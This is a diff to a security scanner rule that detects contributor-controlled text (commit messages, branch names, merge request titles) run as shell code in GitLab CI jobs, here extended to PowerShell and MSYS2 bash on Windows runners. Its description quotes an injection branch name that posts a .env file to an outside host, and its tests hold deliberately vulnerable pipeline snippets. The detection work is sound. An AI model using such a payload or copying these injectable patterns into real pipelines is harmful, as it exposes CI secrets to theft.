@@ -1,8 +1,11 @@
 import { detailNote, inside } from '../rule.js';
 import { inScript, lineAtOffset } from '../script-checks.js';
+import { parsePowerShell } from '../powershell.js';
+import { scriptParts, type ScriptDialect } from '../script-dialect.js';
 import { basename, effectiveWords, gitSubcommand, gitTextOutput, parseShell, type GitText, type ShellCommand, type ShellWord } from '../shell.js';
 import { get, isYMap, text, type YMap, type YNode } from '../yaml/tree.js';
 import { ownerFixes } from './conditions.js';
+import { scriptDialect } from './shells.js';
 import { extendsOrder, gitlabRule, lineOf, pipeline, pipelineScripts, readPipeline, variableScopes, variableValue, type Pipeline } from './pipeline.js';
 
 /**
@@ -254,21 +257,26 @@ const CMD = /^cmd(?:\.exe)?$/i;
 const POWERSHELL = /^(?:pwsh|powershell)(?:\.exe)?$/i;
 const INVOKE_EXPRESSION = /^(?:Invoke-Expression|iex)$/i;
 
-/** The words a Windows shell parses as code in a command, with the forms of expansion the outer shell and it apply there; none for another command. */
-function windowsSinks(words: readonly ShellWord[]): Array<{ word: ShellWord; sink: string; forms: WindowsForms }> {
+/**
+ * The words a Windows shell parses as code in a command, with the forms of expansion the
+ * outer shell (`dialect`) and it apply there; none for another command. Invoke-Expression
+ * is PowerShell's own: in a POSIX shell it is no command.
+ */
+function windowsSinks(words: readonly ShellWord[], dialect: ScriptDialect): Array<{ word: ShellWord; sink: string; forms: WindowsForms }> {
   const program = basename(words[0]?.text.replace(/\\/g, '/') ?? '');
+  const outer: WindowsForms = dialect === 'powershell' ? { env: true, powershell: true } : {};
   if (INVOKE_EXPRESSION.test(program)) {
     // Invoke-Expression [-Command] text: PowerShell expands $env:NAME in it first.
-    return words.slice(1).filter((w) => !/^-Command$/i.test(w.text)).map((word) => ({ word, sink: 'Invoke-Expression', forms: { env: true, powershell: true } }));
+    return dialect === 'powershell' ? words.slice(1).filter((w) => !/^-Command$/i.test(w.text)).map((word) => ({ word, sink: 'Invoke-Expression', forms: outer })) : [];
   }
   if (CMD.test(program)) {
     const at = words.findIndex((w, k) => k > 0 && /^\/[ck]$/i.test(w.text));
-    // Expanded by the outer shell (bash's $NAME, PowerShell's $env:NAME), then by cmd (%NAME%).
-    return at < 0 ? [] : words.slice(at + 1).map((word) => ({ word, sink: 'cmd /c', forms: { percent: true, env: true } }));
+    // Expanded by the outer shell (bash's $NAME, PowerShell's $NAME and $env:NAME), then by cmd (%NAME%).
+    return at < 0 ? [] : words.slice(at + 1).map((word) => ({ word, sink: 'cmd /c', forms: { ...outer, percent: true } }));
   }
   if (POWERSHELL.test(program)) {
     const at = words.findIndex((w, k) => k > 0 && /^-(?:c|Command)$/i.test(w.text));
-    return at < 0 ? [] : words.slice(at + 1).map((word) => ({ word, sink: `${program.replace(/\.exe$/i, '')} -Command`, forms: { env: true } }));
+    return at < 0 ? [] : words.slice(at + 1).map((word) => ({ word, sink: `${program.replace(/\.exe$/i, '')} -Command`, forms: outer }));
   }
   return [];
 }
@@ -368,7 +376,7 @@ function* injections(script: string, carriers: Map<string, Written> = new Map())
     if (basename(words[0]?.text ?? '') === 'eval') reread.push(...words.slice(1).map((word) => ({ word, sink: 'eval' })));
     const ssh = sshOf(words);
     if (ssh) reread.push(...sshCommand(ssh).map((word) => ({ word, sink: SSH_SINK })));
-    reread.push(...windowsSinks(words));
+    reread.push(...windowsSinks(words, 'posix'));
     for (let k = 0; k < words.length; k++) {
       const shell = basename(words[k]!.text);
       if (!SHELLS.has(shell)) continue;
@@ -392,6 +400,92 @@ function* injections(script: string, carriers: Map<string, Written> = new Map())
         yield { offset: word.offset, expansion, source, sink };
       }
     }
+  }
+}
+
+/** PowerShell's expansions in a word it passes on: `$NAME`, `${NAME}`, `$env:NAME`, `$(...)`, in double quotes or bare; a backtick escapes. */
+const POWERSHELL_FORMS: WindowsForms = { env: true, powershell: true };
+
+/** A PowerShell assignment before a command's offset (`$msg = `, `$env:MSG = `, `${env:MSG} = `): the variable's name, and whether it is set in the environment. */
+function powerShellAssigned(script: string, offset: number): { name: string; env: boolean } | undefined {
+  const before = script.slice(Math.max(0, offset - 200), offset);
+  const match = /(?:^|[\n;{])\s*\$(?:\{(env:|(?:script|global|local):)?([A-Za-z_]\w*)\}|(env:|(?:script|global|local):)?([A-Za-z_]\w*))\s*[-+]?=\s*$/i.exec(before);
+  if (!match) return undefined;
+  return { name: (match[2] ?? match[4]!).toUpperCase(), env: /^env:$/i.test(match[1] ?? match[3] ?? '') };
+}
+
+/**
+ * What `injections` finds, in a script PowerShell runs (a job on a Windows runner).
+ * PowerShell expands `$NAME`, `${NAME}`, `$env:NAME` and `$(...)` in a double-quoted or
+ * bare word before the program gets it (GitLab's runner sets each CI/CD variable as a
+ * variable of the script as well as in its environment), not in a single-quoted one nor
+ * after a backtick; `\` escapes nothing. So a contributor's text PowerShell expands into the
+ * script of `bash -c "..."` (MSYS2's `C:\msys64\usr\bin\bash -lc "..."`), the remote command
+ * of ssh, the text of Invoke-Expression, `cmd /c` or `pwsh -Command` is code there; left to
+ * bash (`bash -c 'eval "$CI_COMMIT_TITLE"'`, `` `$ ``), it is expanded by bash, which reads
+ * it as code only where its own script says so: that script is read as POSIX shell
+ * (scriptParts), with the variables of the environment. Variable names are read in any
+ * case, as PowerShell does. `carriers` gets the variables the script sets from such text
+ * (`$title = $env:CI_MERGE_REQUEST_TITLE`, `$msg = git log -1 --format=%s`).
+ */
+function* powerShellInjections(script: string, carriers: Map<string, Written> = new Map()): Generator<{ offset: number; expansion: string; source: Written; sink: string }> {
+  const carried = (name: string) => {
+    const upper = name.toUpperCase();
+    for (const [key, value] of carriers) if (key.toUpperCase() === upper) return value;
+    return undefined;
+  };
+  const sourceOf = (name: string) => predefined(name.toUpperCase()) ?? carried(name);
+  const named = (name: string) => (predefined(name.toUpperCase()) ? `$${name.toUpperCase()}` : `$${name}`);
+  // What the environment carries, for the POSIX scripts the job hands to bash: the file's variables and those set with $env:NAME.
+  const environment = new Map([...carriers].filter(([key]) => key !== HEAD_BRANCH));
+  const pipelines = parsePowerShell(script);
+  const starts = pipelines.flat().map((c) => c.offset);
+  for (const command of pipelines.flat()) {
+    const assigned = command.captured ? powerShellAssigned(script, command.offset) : undefined;
+    if (assigned && !(assigned.name in WRITTEN_BY)) {
+      // `$x = "...$env:NAME..."` (read as Write-Output of the value), or `$x = git log ...`, the command's output.
+      const end = starts.find((s) => s > command.offset) ?? script.length;
+      const value = command.words[0]?.text === 'Write-Output' ? command.words[1] : undefined;
+      const { names, commands } = value ? expansionsOf(script, value.offset, POWERSHELL_FORMS) : { names: [], commands: [script.slice(command.offset, end).replace(/[\s;]+$/, '')] };
+      const source = names.map(sourceOf).find((x) => x !== undefined) ?? commands.map((c) => substitutionSource(c, carriers)).find((x) => x !== undefined);
+      for (const map of assigned.env ? [carriers, environment] : [carriers]) {
+        for (const key of [...map.keys()]) if (key.toUpperCase() === assigned.name) map.delete(key);
+        if (source) map.set(assigned.name, source);
+      }
+    }
+    const words = command.words;
+    const reread: Array<{ word: ShellWord; sink: string; forms: WindowsForms }> = [];
+    const ssh = sshOf(words);
+    if (ssh) reread.push(...sshCommand(ssh).map((word) => ({ word, sink: SSH_SINK, forms: POWERSHELL_FORMS })));
+    reread.push(...windowsSinks(words, 'powershell'));
+    const shell = basename(words[0]?.text ?? '').replace(/\.exe$/i, '').toLowerCase();
+    if (SHELLS.has(shell)) {
+      let option = 1;
+      const holdsC = (text: string) => /^-[a-z]*c[a-z]*$/i.test(text);
+      while (option < words.length && /^--?[a-z][\w-]*$/i.test(words[option]!.text) && !holdsC(words[option]!.text)) option += /^[-+][a-z]*o$/i.test(words[option]!.text) ? 2 : 1;
+      const inner = holdsC(words[option]?.text ?? '') ? words[option + 1] : undefined;
+      if (inner) reread.push({ word: inner, sink: `${shell} -c`, forms: POWERSHELL_FORMS });
+    }
+    const reported = new Set<string>();
+    for (const { word, sink, forms } of reread) {
+      const { names, commands } = expansionsOf(script, word.offset, forms);
+      const found = [
+        ...names.map((name) => ({ expansion: named(name), source: sourceOf(name) })),
+        ...commands.map((text) => substitutionSource(text, carriers)).map((source) => ({ expansion: source?.what ?? '', source })),
+      ];
+      for (const { expansion, source } of found) {
+        if (!source || reported.has(expansion)) continue;
+        reported.add(expansion);
+        yield { offset: word.offset, expansion, source, sink };
+      }
+    }
+  }
+  // The POSIX scripts handed to bash, as bash reads them once PowerShell has expanded what it expands there:
+  // what PowerShell expanded is text of bash's script (reported above), what it left is bash's to expand.
+  for (const part of scriptParts(script, 'powershell').slice(1)) {
+    let text = part.text;
+    for (const [from, to] of part.expanded ?? []) text = text.slice(0, from) + '_'.repeat(to - from) + text.slice(to);
+    for (const found of injections(text, new Map(environment))) yield { ...found, offset: part.at(found.offset) };
   }
 }
 
@@ -452,7 +546,7 @@ const scriptInjection = gitlabRule({
   id: 'iac/gitlab-script-injection',
   title: 'Commit or merge request text run as shell code in CI',
   description:
-    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), the remote command of `ssh host ...` (also run by sshpass), which ssh joins into one line for the remote shell to parse (quoting it locally does not help there), the body of a here-document that a shell or ssh reads as its script (`bash <<EOF`, `cat <<EOF | ssh host`: the job\'s shell expands every $NAME of the body first, quotes in it being text; a quoted delimiter, `<<\'EOF\'`, expands nothing), or on Windows the command line of `cmd /c` (which expands %NAME% itself), the text of PowerShell\'s Invoke-Expression and of `pwsh -Command` (with $env:NAME, or $NAME: GitLab\'s runner sets each variable in the PowerShell script too). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too (in a child pipeline, also one the trigger job passes down: its own `variables:`, those it extends, its file\'s top-level ones), and so does a shell variable a line of the job\'s before_script or script sets from one (`export MSG="$CI_COMMIT_MESSAGE"`) before a later line runs it (`eval "$MSG"`). So does what a git command prints of the commits, set into a variable (`MSG=$(git log -1 --pretty=%B)`, `` AUTHOR=`git show -s --format=%an` ``) or substituted straight into the code (`eval "notify $(git log -1 --format=%s)"`: the job\'s shell runs git, and eval parses its output): the message (%s, %b, %B, --oneline and the named formats), the author\'s and committer\'s names and emails (%an, %ae, %cn, %ce), the branch and tag names decorating a commit (%d, %D); not hashes, dates or %f. The name of the branch checked out (`git rev-parse --abbrev-ref HEAD`, `git branch --show-current`) counts once the job checks out a branch under a name a contributor wrote (`git checkout -B "$CI_COMMIT_REF_NAME"`): GitLab checks out the commit with HEAD detached, where git prints `HEAD`. The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium, and so is the profile name of the user who started the pipeline (GITLAB_USER_NAME: free text that user chooses, a member who can run pipelines); their username (GITLAB_USER_LOGIN) takes only letters, digits and `_.-` and is not reported. The commit\'s author (CI_COMMIT_AUTHOR, `Name <email>` as git records it) is whatever the commit says. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. Nor is a branch or tag name that the conditions a job runs under fix to one the pipeline names: rules (the job\'s, or the workflow\'s) whose every entry that lets it run compares it (`if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`, `if: $CI_COMMIT_TAG =~ /^v\\d+\\.\\d+\\.\\d+$/`, a pattern anchored at both ends that takes only letters, digits and `._/+-`), or `only:` refs that name branches so (`only: [main]`); such a branch pipeline has no merge request text either. A template\'s script counts as fixed only when every job of the file that runs it is. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
+    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), the remote command of `ssh host ...` (also run by sshpass), which ssh joins into one line for the remote shell to parse (quoting it locally does not help there), the body of a here-document that a shell or ssh reads as its script (`bash <<EOF`, `cat <<EOF | ssh host`: the job\'s shell expands every $NAME of the body first, quotes in it being text; a quoted delimiter, `<<\'EOF\'`, expands nothing), or on Windows the command line of `cmd /c` (which expands %NAME% itself), the text of PowerShell\'s Invoke-Expression and of `pwsh -Command` (with $env:NAME, or $NAME: GitLab\'s runner sets each variable in the PowerShell script too). A job on a Windows runner runs its script in PowerShell, which expands `$NAME`, `${NAME}`, `$env:NAME` and `$(...)` in a double-quoted or bare word before the program gets it (a backslash escapes nothing there): `bash -c "notify $CI_COMMIT_TITLE"` (MSYS2\'s `C:\\msys64\\usr\\bin\\bash -lc "..."`) hands bash a script with the title in it, as `ssh host "..."` does the remote shell; in single quotes or after a backtick (`bash -c \'notify "$CI_COMMIT_TITLE"\'`) bash gets the variable and expands it as data, and bash\'s script is read as POSIX shell for its own eval or sh -c; a variable of the PowerShell script set from such text (`$title = $env:CI_MERGE_REQUEST_TITLE`, `$subject = git log -1 --format=%s`) carries it too, and only one set with `$env:NAME = ...` reaches bash\'s environment. GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too (in a child pipeline, also one the trigger job passes down: its own `variables:`, those it extends, its file\'s top-level ones), and so does a shell variable a line of the job\'s before_script or script sets from one (`export MSG="$CI_COMMIT_MESSAGE"`) before a later line runs it (`eval "$MSG"`). So does what a git command prints of the commits, set into a variable (`MSG=$(git log -1 --pretty=%B)`, `` AUTHOR=`git show -s --format=%an` ``) or substituted straight into the code (`eval "notify $(git log -1 --format=%s)"`: the job\'s shell runs git, and eval parses its output): the message (%s, %b, %B, --oneline and the named formats), the author\'s and committer\'s names and emails (%an, %ae, %cn, %ce), the branch and tag names decorating a commit (%d, %D); not hashes, dates or %f. The name of the branch checked out (`git rev-parse --abbrev-ref HEAD`, `git branch --show-current`) counts once the job checks out a branch under a name a contributor wrote (`git checkout -B "$CI_COMMIT_REF_NAME"`): GitLab checks out the commit with HEAD detached, where git prints `HEAD`. The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium, and so is the profile name of the user who started the pipeline (GITLAB_USER_NAME: free text that user chooses, a member who can run pipelines); their username (GITLAB_USER_LOGIN) takes only letters, digits and `_.-` and is not reported. The commit\'s author (CI_COMMIT_AUTHOR, `Name <email>` as git records it) is whatever the commit says. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. Nor is a branch or tag name that the conditions a job runs under fix to one the pipeline names: rules (the job\'s, or the workflow\'s) whose every entry that lets it run compares it (`if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`, `if: $CI_COMMIT_TAG =~ /^v\\d+\\.\\d+\\.\\d+$/`, a pattern anchored at both ends that takes only letters, digits and `._/+-`), or `only:` refs that name branches so (`only: [main]`); such a branch pipeline has no merge request text either. A template\'s script counts as fixed only when every job of the file that runs it is. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
   remediation: 'Do not build shell code from these variables: run the command directly with the variable quoted (`deploy --branch "$CI_COMMIT_BRANCH"`), or pass it to the inner shell as an argument (`sh -c \'deploy --branch "$1"\' sh "$CI_COMMIT_BRANCH"`); use CI_COMMIT_REF_SLUG where a name must be safe.',
   severity: 'high',
   cwe: ['CWE-78', 'CWE-94'],
@@ -474,6 +568,8 @@ const scriptInjection = gitlabRule({
       pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - Invoke-Expression "notify $env:CI_MERGE_REQUEST_TITLE"\n'),
       // GitLab's runner sets each variable as a variable of the PowerShell script too.
       pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - iex "notify --title $CI_MERGE_REQUEST_TITLE"\n'),
+      // PowerShell expands the title into the script it hands to bash.
+      pipeline('test:msys2:\n  tags: [win32-ps]\n  # expect\n  script:\n    # detail\n    - C:\\msys64\\usr\\bin\\bash -lc "notify --title \'$CI_COMMIT_TITLE\'"\n'),
       // The profile name of whoever started the pipeline (medium), and the commit's author.
       pipeline('announce:\n  # expect\n  script:\n    # detail\n    - eval "notify --by \'$GITLAB_USER_NAME\'"\n    # detail\n    - ssh deploy@app.example.org ./record.sh "$CI_COMMIT_AUTHOR"\n'),
       // What git prints of the commit, set into a variable or substituted straight into the code.
@@ -501,6 +597,8 @@ const scriptInjection = gitlabRule({
       // The username takes only letters, digits and `_.-`; the profile name, passed as data.
       pipeline('announce:\n  script:\n    - sh -c "notify --by $GITLAB_USER_LOGIN"\n    - notify --by "$GITLAB_USER_NAME"\n'),
       pipeline("deploy:\n  tags: [windows]\n  script:\n    - echo %CI_COMMIT_MESSAGE%\n    - Write-Output $env:CI_COMMIT_MESSAGE\n    - Invoke-Expression 'notify $env:CI_MERGE_REQUEST_TITLE'\n    - cmd /c \"notify --slug %CI_COMMIT_REF_SLUG%\"\n"),
+      // Left to bash, which expands it as data.
+      pipeline("test:msys2:\n  tags: [win32-ps]\n  script:\n    - C:\\msys64\\usr\\bin\\bash -lc 'notify --title \"$CI_COMMIT_TITLE\"'\n    - bash -lc \"notify --title `\"`$CI_COMMIT_TITLE`\"\"\n"),
     ],
   },
   *check(p) {
@@ -508,12 +606,14 @@ const scriptInjection = gitlabRule({
     // What a line of a job's before_script and script sets, the next lines see (one shell); after_script runs in a shell of its own.
     const shells = new Map<string, Map<string, Written>>();
     const fixedFor = new Map<string, Set<string>>();
-    for (const { owner, scalar, text: script, keyLine, key } of pipelineScripts(p)) {
+    for (const entry of pipelineScripts(p)) {
+      const { owner, scalar, text: script, keyLine, key } = entry;
       const shell = `${owner}\0${key === 'after_script' ? key : 'script'}`;
       if (!shells.has(shell)) shells.set(shell, new Map(carried));
       // Read only for a script that has a finding: most have none.
       const fixed = () => fixedFor.get(owner) ?? fixedFor.set(owner, ownerFixes(p, owner)).get(owner)!;
-      for (const { offset, expansion, source, sink } of injections(script, shells.get(shell))) {
+      const found = scriptDialect(p, entry) === 'powershell' ? powerShellInjections(script, shells.get(shell)) : injections(script, shells.get(shell));
+      for (const { offset, expansion, source, sink } of found) {
         // The conditions the job runs under fix the text (`if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`): no contributor writes it.
         if (source.what.startsWith('$') && fixed().has(source.what.slice(1))) continue;
         const at = inside(keyLine, lineOf(p, scalar, offset));
